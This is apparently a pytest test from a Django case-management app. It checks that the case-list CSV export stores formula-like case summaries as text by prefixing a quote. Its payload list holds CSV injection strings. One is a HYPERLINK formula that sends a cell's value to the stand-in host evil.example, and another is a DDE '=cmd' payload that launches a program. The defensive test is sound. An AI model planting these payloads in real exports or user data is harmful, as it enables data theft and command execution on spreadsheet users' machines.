"""The case list's CSV writes a case summary that is a formula as text (a quote in front), so it opens as text."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from safer.cases import services
from safer.cases.tests.factories import case_with_report

pytestmark = pytest.mark.django_db

SUMMARIES = ['=HYPERLINK("http://evil.example/?d="&A3,"x")', "=cmd|' /C calc'!A0", "@SUM(1)", "+SUM(1)", "-2+3"]


def test_the_case_list_csv_writes_formulas_in_summaries_as_text(
    client, sign_in, partnership, council, caseworker_a
) -> None:
    for summary in SUMMARIES:
        case, _ = case_with_report(partnership, council, caseworker_a)
        services.update_case(
            case=case,
            actor=caseworker_a,
            expected_version=case.version,
            summary=summary,
            case_type=case.case_type,
            status=case.status,
            officer=caseworker_a,
        )
    sign_in(client, caseworker_a)
    export = client.get(reverse("cases:export"))
    rows = list(csv.DictReader(io.StringIO(export.content.decode(), newline="")))
    assert sorted(r["Summary"] for r in rows) == sorted("'" + s for s in SUMMARIES)
    assert {r["Officer"] for r in rows} == {caseworker_a.full_name}  # the rest of each row as before
